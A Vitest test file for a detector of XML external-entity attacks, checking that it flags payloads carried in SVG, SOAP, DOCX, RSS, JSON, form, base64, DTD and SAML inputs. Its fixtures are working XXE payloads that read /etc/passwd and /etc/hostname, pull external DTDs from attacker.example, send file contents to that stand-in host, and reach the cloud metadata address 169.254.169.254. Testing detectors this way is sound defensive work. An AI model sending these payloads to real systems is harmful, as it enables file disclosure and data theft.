/** Carriers (checklist 85): the engine hands each of these to the detector as a layer. */
import { describe, expect, it } from 'vitest';
import { rulesOf, run } from './harness.js';

const ENTITY = '<!ENTITY xxe SYSTEM "file:///etc/passwd">';

describe('carriers', () => {
  it('SVG upload with an internal subset', () => {
    const svg = `<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ ${ENTITY} ]>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><text x="1" y="9">&xxe;</text></svg>`;
    expect(rulesOf(svg, { contentType: 'image/svg+xml', filename: 'avatar.svg' })).toEqual(['DW-XML-001']);
  });

  it('SOAP envelope with a DOCTYPE before the Envelope', () => {
    const soap = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE soap:Envelope [${ENTITY}]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="urn:shop"><m:Item>&xxe;</m:Item></m:GetPrice></soap:Body></soap:Envelope>`;
    expect(rulesOf(soap, { contentType: 'text/xml' })).toEqual(['DW-XML-001']);
  });

  it('DOCX word/document.xml (zip member layer)', () => {
    const doc = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>hi</w:t></w:r></w:p></w:body></w:document>`;
    const r = run(doc, { layer: { location: 'body>multipart[file]>zip[word/document.xml]', filename: 'word/document.xml', depth: 2 } });
    expect(r.rules).toEqual(new Set(['DW-XML-001', 'DW-XML-003']));
    expect(r.findings[0]!.location).toBe('body>multipart[file]>zip[word/document.xml]');
  });

  it('[Content_Types].xml with an external DTD', () => {
    const ct = `<?xml version="1.0"?><!DOCTYPE Types SYSTEM "http://attacker.example/t.dtd"><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`;
    expect(rulesOf(ct)).toEqual(['DW-XML-002']);
  });

  it('RSS feed with an entity', () => {
    const rss = `<?xml version="1.0"?>\n<!DOCTYPE rss [${ENTITY}]>\n<rss version="2.0"><channel><title>&xxe;</title><item><title>a</title></item></channel></rss>`;
    expect(rulesOf(rss, { contentType: 'application/rss+xml' })).toEqual(['DW-XML-001']);
  });

  it('XML in a JSON string value (raw body and decoded value layers)', () => {
    const value = `<?xml version="1.0"?>\n<!DOCTYPE u [\n  ${ENTITY}\n]>\n<u>&xxe;</u>`;
    // The raw body sees JSON escapes; the engine hands the decoded string as its own layer.
    const raw = JSON.stringify({ profile: { xml: value } });
    expect(rulesOf(raw)).toEqual([]);
    expect(rulesOf(value, { isValue: true, location: 'body>json:/profile/xml' })).toEqual(['DW-XML-001']);
  });

  it('XML in a form field and in a base64 value (decoded layers)', () => {
    const value = `<!DOCTYPE r [${ENTITY}]><r>&xxe;</r>`;
    expect(rulesOf(value, { isValue: true, location: 'body>form:xml' })).toEqual(['DW-XML-001']);
    expect(rulesOf(Buffer.from(value), { location: 'body>form:data>base64' })).toEqual(['DW-XML-001']);
  });

  it('a DTD file upload', () => {
    const dtd = `<?xml version="1.0" encoding="UTF-8"?>\n<!ENTITY % payload SYSTEM "file:///etc/hostname">\n<!ENTITY % all "<!ENTITY send SYSTEM 'http://attacker.example/?%payload;'>">\n%all;\n`;
    expect(rulesOf(dtd, { filename: 'evil.dtd' })).toEqual(expect.arrayContaining(['DW-XML-001', 'DW-XML-003']));
  });

  it('SAML response with an XInclude', () => {
    const saml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:xi="http://www.w3.org/2001/XInclude"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><xi:include href="http://169.254.169.254/latest/meta-data/"/></saml:Assertion></samlp:Response>`;
    expect(rulesOf(saml)).toEqual(['DW-XML-005']);
  });
});
